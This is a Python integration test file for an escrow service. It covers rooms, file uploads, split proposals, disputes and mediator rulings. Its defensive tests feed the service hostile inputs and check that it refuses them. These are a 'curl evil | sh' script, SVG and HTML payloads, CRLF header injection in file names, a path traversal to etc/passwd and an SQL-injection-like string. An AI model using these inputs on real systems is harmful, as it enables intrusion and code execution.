"""Rooms over the wire: who gets in, what files become, splits up to `agree`, disputes up to `rule`."""

import io
import logging
from dataclasses import replace
from typing import Any
from urllib.parse import quote

import pytest
from eth_account.signers.local import LocalAccount
from fastapi.testclient import TestClient
from PIL import Image

from kameng_escrow.chain.signing import sign_typed_data
from kameng_escrow.domain.disputes import REASON_LABELS
from kameng_escrow.domain.order import OrderTerms
from kameng_escrow.domain.shares import sum_in_dispute
from kameng_escrow.domain.signed import Split
from kameng_escrow.domain.states import Outcome, State
from kameng_escrow.service.app import make_app
from kameng_escrow.service.downloads import download_headers
from kameng_escrow.store import Store
from kameng_escrow.talk.archive import verify
from kameng_escrow.talk.file_types import ENDINGS
from tests.integration.escrow_world import DAY
from tests.integration.mirrors import book_of

from .conftest import ORIGIN, Service
from .test_stream import listening, serving


def png() -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (9, 7), "teal").save(made, "PNG")
    return made.getvalue()


def room_of(service: Service, terms: OrderTerms) -> str:
    """The address of the order's routes."""
    service.mirror()
    service.clock.now = service.world.now()
    return f"/v1/orders/{service.id_of(terms)}"


def ok(answer: Any, status: int = 200) -> Any:
    assert answer.status_code == status, answer.text
    return answer.json()


def refused(answer: Any, status: int, code: str) -> None:
    assert (answer.status_code, answer.json()["code"]) == (status, code), answer.text


def send(client: TestClient, room: str, content: bytes = b"", name: str = "a.png") -> Any:
    return client.post(f"{room}/room/files", params={"name": name}, content=content or png())


def test_a_room_from_first_word_to_transcript(service_on_each: Service, tmp_path: Any) -> None:
    service = service_on_each
    world = service.world
    room = room_of(service, world.accepted())
    buyer, seller = service.signed_in(world.buyer), service.signed_in(world.seller)
    file = ok(send(buyer, room, name="../../截图\r\nX-Evil: 1.png"), 201)
    assert (file["media_type"], file["width"], file["seq"]) == ("image/png", 9, None)
    refused(seller.get(file["url"]), 404, "unknown_item")
    said = ok(buyer.post(f"{room}/room/messages", json={"text": "看图", "files": [file["id"]]}), 201)
    assert (said["seq"], said["seat"], said["author"]) == (2, "buyer", world.buyer.address)

    seen = ok(seller.get(f"{room}/room"))
    assert (seen["size"], seen["head"], seen["seats"]) == (3, said["head"], ["seller"])
    line, _, message = seen["entries"]
    assert line["line"]["event"] == "OrderOpened"
    assert line["line"]["fields"]["terms"]["buyer"] == world.buyer.address
    assert line["line"]["label"] == {"zh": "货款已进入托管。", "en": "The price is in escrow."}
    assert (message["body"]["text"], message["files"][0]["id"]) == ("看图", file["id"])

    got = seller.get(file["url"])
    assert got.status_code == 200
    assert got.headers["content-type"] == "image/png"
    assert got.headers["content-disposition"].startswith("attachment; filename=\"file.png\"; filename*=UTF-8''")
    assert "x-evil" not in got.headers
    assert got.headers["x-content-type-options"] == "nosniff"
    assert got.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert got.headers["cross-origin-resource-policy"] == "same-origin"
    assert Image.open(io.BytesIO(got.content)).size == (9, 7)

    ok(seller.post(f"{room}/room/read", json={"seq": 2}))
    [mine, *_] = ok(seller.get("/v1/rooms"))["rooms"]
    assert (mine["order_id"], mine["unread"]) == (seen["order_id"], 0)
    assert {mark["account"] for mark in ok(buyer.get(f"{room}/room"))["marks"]} == {
        world.buyer.address,
        world.seller.address,
    }

    archive = buyer.get(f"{room}/room/transcript")
    assert archive.headers["content-type"] == "application/zip"
    (tmp_path / "t.zip").write_bytes(archive.content)
    proved = verify(tmp_path / "t.zip")
    assert (proved.size, proved.head, proved.files) == (3, said["head"], 1)


def test_the_same_message_sent_twice_is_said_once(service: Service) -> None:
    room = room_of(service, service.world.opened())
    buyer = service.signed_in(service.world.buyer)
    headers = {"Idempotency-Key": "one"}
    first = ok(buyer.post(f"{room}/room/messages", json={"text": "hello"}, headers=headers), 201)
    again = ok(buyer.post(f"{room}/room/messages", json={"text": "hello"}, headers=headers), 201)
    assert first == again
    assert ok(buyer.get(f"{room}/room"))["size"] == 2


def test_mediators_get_in_with_the_dispute_and_without_a_conflict(service: Service) -> None:
    world, mediator = service.world, service.signed_in(service.world.mediator)
    before = room_of(service, world.delivered())
    after = room_of(service, world.disputed())
    conflicted = room_of(service, world.disputed(pay_to=world.mediator.address))
    for path in ("room", "proposals", "dispute"):
        refused(mediator.get(f"{before}/{path}"), 403, "not_in_room")
        refused(mediator.get(f"{conflicted}/{path}"), 403, "mediator_conflicted")
        ok(mediator.get(f"{after}/{path}"))


HOSTILE = {
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "HTML": b"<html><script>fetch('//evil')</script>",
    "a script": b"#!/bin/sh\ncurl evil | sh",
    "an archive": b"PK\x03\x04" + bytes(100),
    "half a picture": png()[:40],
    "nothing": b"",
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_hostile_files_are_refused_whatever_they_are_called(service: Service, content: bytes) -> None:
    room = room_of(service, service.world.opened())
    buyer = service.signed_in(service.world.buyer)
    for kind in ("image/png", "text/html", "application/octet-stream"):
        answer = buyer.post(
            f"{room}/room/files", params={"name": "a.png"}, content=content, headers={"Content-Type": kind}
        )
        refused(answer, 422, "file_refused")
    assert not (service.parts.blobs.folder / "objects").exists()


def test_files_too_large_for_a_room_or_a_request_are_refused(service: Service) -> None:
    room = room_of(service, service.world.opened())
    buyer = service.signed_in(service.world.buyer)
    too_large = service.parts.talk_limits.file_bytes + 1
    refused(send(buyer, room, bytes(too_large)), 413, "file_too_large")
    headers = {"Content-Length": str(2**40)}
    refused(buyer.post(f"{room}/room/files", content=b"x", headers=headers), 413, "too_large")


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"text": ""},
        {"text": "\x00"},
        {"text": "x" * 16_001},
        {"text": "x", "files": ["fil_none"] * 11},
        {"text": "x", "more": 1},
        {"text": 7},
        {"text": "x", "files": "fil_none"},
    ],
)
def test_what_is_no_message_is_refused(service: Service, body: dict[str, Any]) -> None:
    room = room_of(service, service.world.opened())
    answer = service.signed_in(service.world.buyer).post(f"{room}/room/messages", json=body)
    assert answer.status_code == 422, answer.text


def test_what_people_write_gets_into_no_header_and_no_log(service: Service, caplog: pytest.LogCaptureFixture) -> None:
    evil = "x\r\nSet-Cookie: a=b\r\n\r\n<script>"
    room = room_of(service, service.world.opened())
    buyer = service.signed_in(service.world.buyer)
    with caplog.at_level(logging.DEBUG):
        file = ok(send(buyer, room, name=evil), 201)
        ok(buyer.post(f"{room}/room/messages", json={"text": evil, "files": [file["id"]]}), 201)
        got = buyer.get(file["url"])
        buyer.get(f"{room}/room/files/{quote(evil, safe='')}")
    assert "set-cookie" not in got.headers
    assert "Set-Cookie: a=b" not in caplog.text
    assert "<script>" not in caplog.text


@pytest.mark.parametrize("name", ["a.png", "evil.exe", 'quo"te.png', "截图.PNG", "a;b=c.jpg", "", "x" * 120])
@pytest.mark.parametrize("media_type", ENDINGS)
def test_names_in_headers_are_encoded(name: str, media_type: str) -> None:
    headers = download_headers(name, media_type)
    plain, _, encoded = headers["Content-Disposition"].partition("; filename*=UTF-8''")
    assert plain == f'attachment; filename="file.{ENDINGS[media_type]}"'
    assert encoded.isascii()
    assert not set(encoded) & set("\"'\r\n;, ")
    assert encoded.lower().endswith(("." + ENDINGS[media_type], ".jpeg", ".csv", ".log", ".md"))
    assert headers["Content-Type"].startswith(media_type)


# ---------------------------------------------------------------------------------------------------------- proposals


def sign(service: Service, who: LocalAccount, room: str, proposal: dict[str, Any]) -> Any:
    signature = "0x" + sign_typed_data(who, proposal["typed_data"]).hex()
    return service.signed_in(who).post(f"{room}/proposals/{proposal['id']}/signature", json={"signature": signature})


def _split(fields: dict[str, Any]) -> Split:
    numbers = {name: int(fields[name]) for name in ("disputed_units", "revision", "to_buyer", "expiry")}
    return Split(state=State.from_label(fields["state"]), **numbers)


def test_a_split_from_the_button_to_the_chain(service: Service) -> None:
    world = service.world
    terms = world.disputed(units=3)
    room = room_of(service, terms)
    buyer, seller = service.signed_in(world.buyer), service.signed_in(world.seller)
    refused(buyer.post(f"{room}/proposals", json={"to_buyer": str(10**30)}), 409, "amount_out_of_range")
    made = ok(buyer.post(f"{room}/proposals", json={"to_buyer": "120000"}), 201)
    assert (made["status"], made["closing"]["outcome"]) == ("open", "Agreed")
    refused(sign(service, world.platform, room, made), 403, "forbidden")
    wrong = {"signature": "0x" + "11" * 65}
    refused(seller.post(f"{room}/proposals/{made['id']}/signature", json=wrong), 409, "invalid_signature")
    refused(buyer.get(f"{room}/proposals/{made['id']}/agreement"), 409, "not_signed")
    ok(sign(service, world.buyer, room, made))
    assert ok(sign(service, world.seller, room, made))["status"] == "ready"

    found = ok(seller.get(f"{room}/proposals/{made['id']}/agreement"))
    assert found["split"] == made["split"]
    split = _split(found["split"])
    signatures = (bytes.fromhex(found[f"{side}_signature"][2:]) for side in ("buyer", "seller"))
    world.send(world.stranger, "agree", terms, split, *signatures)
    service.mirror()
    [paid] = ok(buyer.get(f"{room}/proposals"))["proposals"]
    assert (paid["status"], paid["typed_data"]) == ("paid", None)
    assert service.parts.book.order(service.id_of(terms)).order.outcome is Outcome.Agreed


def test_a_void_split_says_why(service: Service) -> None:
    world = service.world
    terms = world.accepted()
    room = room_of(service, terms)
    buyer = service.signed_in(world.buyer)
    made = ok(buyer.post(f"{room}/proposals", json={"to_buyer": "1", "seconds": 600}), 201)
    gone = ok(buyer.post(f"{room}/proposals", json={"to_buyer": "2"}), 201)
    assert ok(service.signed_in(world.seller).post(f"{room}/proposals/{gone['id']}/withdraw"))["void"] == "withdrawn"
    service.clock.now += 600
    late = ok(buyer.get(f"{room}/proposals/{made['id']}"))
    assert (late["status"], late["void"], late["void_label"]["zh"]) == ("void", "expired", "已过期")
    refused(sign(service, world.buyer, room, made), 409, "proposal_void")
    refused(buyer.get(f"{room}/proposals/prp_none"), 404, "unknown_item")


# ------------------------------------------------------------------------------------------------------------ disputes


def test_a_dispute_from_reason_to_ruling(service: Service) -> None:
    world = service.world
    terms = world.delivered()
    room = room_of(service, terms)
    buyer, seller, mediator = (service.signed_in(who) for who in (world.buyer, world.seller, world.mediator))
    reasons = ok(service.visitor().get("/v1/dispute-reasons"))["reasons"]
    assert [one["label"]["zh"] for one in reasons] == [label.zh for label in REASON_LABELS.values()]
    words = {"reason": "CodeInvalid", "lines": [1, 4], "statement": "激活不了"}
    refused(seller.post(f"{room}/dispute/paper", json=words), 403, "forbidden")
    refused(buyer.post(f"{room}/dispute/paper", json={**words, "reason": "BadMood"}), 422, "paper_refused")
    refused(buyer.post(f"{room}/dispute/paper", json={**words, "lines": [11]}), 422, "paper_refused")
    file = ok(send(buyer, room), 201)
    paper = ok(buyer.post(f"{room}/dispute/paper", json={**words, "files": [file["id"]]}), 201)
    refused(seller.get(f"{room}/dispute"), 409, "not_disputed")
    refused(seller.get(f"{room}/dispute/papers/{paper['hash']}"), 404, "unknown_item")
    assert ok(buyer.get(f"{room}/dispute/papers/{paper['hash']}"))["document"] == paper["document"]

    bond = sum_in_dispute(terms.price, terms.units, paper["units"]) * 1_500 // 10_000
    world.send(world.buyer, "dispute", terms, paper["units"], paper["evidence"], value=bond)
    room_of(service, terms)
    seen = ok(seller.get(f"{room}/dispute"))
    assert (seen["phase"], seen["reason"], seen["evidence_hash"]) == ("negotiation", "CodeInvalid", paper["hash"])
    assert seen["evidence"]["document"] == paper["document"]
    assert seen["promised"]["outcome"] == "Defaulted"
    assert len(seen["filed"]) == 1
    assert seller.get(file["url"]).status_code == 200
    ok(seller.post(f"{room}/dispute/evidence", json={"text": "They were new."}), 201)
    assert seen["ties"] == []
    world.send(world.seller, "registerPayTo", world.mediator.address)
    refused(mediator.post(f"{room}/dispute/evidence", json={"text": "x"}), 403, "forbidden")

    findings = [{"line": 1, "outcome": "Buyer"}, {"line": 4, "outcome": "Shared"}]
    refused(mediator.post(f"{room}/dispute/preview", json={"findings": findings}), 409, "too_early")
    world.wait(DAY)
    room_of(service, terms)
    [case] = [one for one in ok(mediator.get("/v1/mediation/queue"))["cases"] if one["order_id"] == seen["order_id"]]
    assert (case["turn"], case["reason"], case["promised"]["fault"]) == (True, "CodeInvalid", "Mediator")
    [tie] = case["ties"]
    assert (tie["mediator"], tie["tie"], set(tie["label"])) == (world.mediator.address, "receiver", {"zh", "en"})
    assert ok(buyer.get(f"{room}/dispute"))["ties"] == [tie]
    wrong = {"findings": [{"line": 1, "outcome": "Platform"}], "grounds": "x"}
    refused(mediator.post(f"{room}/dispute/ruling", json=wrong), 422, "paper_refused")
    preview = ok(mediator.post(f"{room}/dispute/preview", json={"findings": findings}))
    ruling = ok(mediator.post(f"{room}/dispute/ruling", json={"findings": findings, "grounds": "第 1 张无效。"}), 201)
    assert (ruling["award"], ruling["closing"]) == (preview["award"], preview["closing"])
    assert ok(seller.get(f"{room}/dispute"))["grounds"] is None

    world.send(world.mediator, "rule", terms, int(ruling["award"]), ruling["grounds"])
    room_of(service, terms)
    seen = ok(seller.get(f"{room}/dispute"))
    assert seen["grounds"] == {"hash": ruling["grounds"], "document": ruling["document"]}
    assert (seen["phase"], seen["promised"]) == (None, None)
    record = ok(service.visitor().get(f"/v1/mediators/{world.mediator.address}/record"))
    assert record["ruled"] == 2  # with the one of the world's history
    refused(service.visitor().get("/v1/mediators/0x12/record"), 422, "bad_request")


def test_conflicts_are_declared_by_those_concerned(service: Service) -> None:
    world = service.world
    room = room_of(service, world.disputed())
    mediator, stranger = service.signed_in(world.mediator), service.signed_in(world.deployer)
    order_id = room.rpartition("/")[2]
    words = {"subject": order_id, "note": "我认识买家"}
    refused(stranger.post("/v1/mediation/conflicts", json=words), 403, "wrong_seat")
    refused(mediator.post("/v1/mediation/conflicts", json={**words, "subject": "x"}), 422, "bad_request")
    made = ok(mediator.post("/v1/mediation/conflicts", json=words), 201)
    assert ok(mediator.get("/v1/mediation/conflicts"))["conflicts"] == [made]
    queue = ok(mediator.get("/v1/mediation/queue"))
    assert order_id not in [case["order_id"] for case in queue["cases"]]
    assert queue["hidden"] >= 1
    refused(mediator.post(f"{room}/dispute/ruling", json={"findings": [], "grounds": "x"}), 403, "mediator_conflicted")
    refused(stranger.delete(f"/v1/mediation/conflicts/{made['id']}"), 404, "unknown_item")
    ok(mediator.delete(f"/v1/mediation/conflicts/{made['id']}"))
    assert ok(mediator.get("/v1/mediation/conflicts"))["conflicts"] == []


@pytest.mark.parametrize("path", ["/v1/rooms", "/v1/mediation/queue"])
def test_cursors_that_no_page_gave_are_refused(service: Service, path: str) -> None:
    buyer = service.signed_in(service.world.buyer)
    for cursor in ("1", "x-y", "1-1-1-1", "-1--1"):
        refused(buyer.get(path, params={"cursor": cursor}), 422, "invalid_cursor")


def test_names_that_are_none_are_not_found_on_any_database(service_on_each: Service) -> None:
    service = service_on_each
    room = room_of(service, service.world.opened())
    buyer = service.signed_in(service.world.buyer)
    for name in ("nothing", "%01", "fil_%7F", "fil_" + "0" * 26, "prp_" + "0" * 26, "cfl_" + "0" * 26, "%27%20OR%201"):
        refused(buyer.get(f"{room}/room/files/{name}"), 404, "unknown_item")
        refused(buyer.post(f"{room}/proposals/{name}/withdraw"), 404, "unknown_item")
        refused(buyer.delete(f"/v1/mediation/conflicts/{name}"), 404, "unknown_item")
    assert buyer.get(f"{room}/room/files/..%2f..%2fetc%2fpasswd").status_code == 404
    said = buyer.post(f"{room}/room/messages", json={"text": "x", "files": ["\x01"]})
    refused(said, 404, "unknown_item")


# -------------------------------------------------------------------------------------------------------------- news


def test_what_is_said_arrives_to_those_in_the_room(service_on_each: Service) -> None:
    service = service_on_each
    world = service.world
    room = room_of(service, world.opened())
    key = str(service.with_key(world.seller, "orders:read").headers["Authorization"])
    other = str(service.with_key(world.mediator, "orders:read").headers["Authorization"])
    buyer = service.signed_in(world.buyer)
    with serving(service) as url, listening(url, f"{room}/stream", key) as heard, listening(url, "/v1/stream", other):
        said = ok(buyer.post(f"{room}/room/messages", json={"text": "hello"}), 201)
        while True:
            event = next(heard)
            if event.kind == "room" and event.data["size"] == said["seq"] + 1:
                break
    assert event.data["head"] == said["head"]


def test_what_one_replica_takes_another_tells(service_on_each: Service) -> None:
    """Two services over one store: what is said at the first arrives at those who listen to the second."""
    service = service_on_each
    world = service.world
    room = room_of(service, world.opened())
    key = str(service.with_key(world.seller, "orders:read").headers["Authorization"])
    buyer = service.signed_in(world.buyer)
    with Store.open(service.store.url.render_as_string(hide_password=False)) as store:
        app = make_app(replace(service.parts, store=store, book=book_of(world, store)))
        with (
            TestClient(app, base_url=ORIGIN) as client,
            serving(replace(service, client=client)) as url,
            listening(url, "/v1/stream", key) as heard,
        ):
            said = ok(buyer.post(f"{room}/room/messages", json={"text": "hello"}), 201)
            event = next(one for one in heard if one.kind == "room" and one.data["size"] == said["seq"] + 1)
    assert event.data["head"] == said["head"]
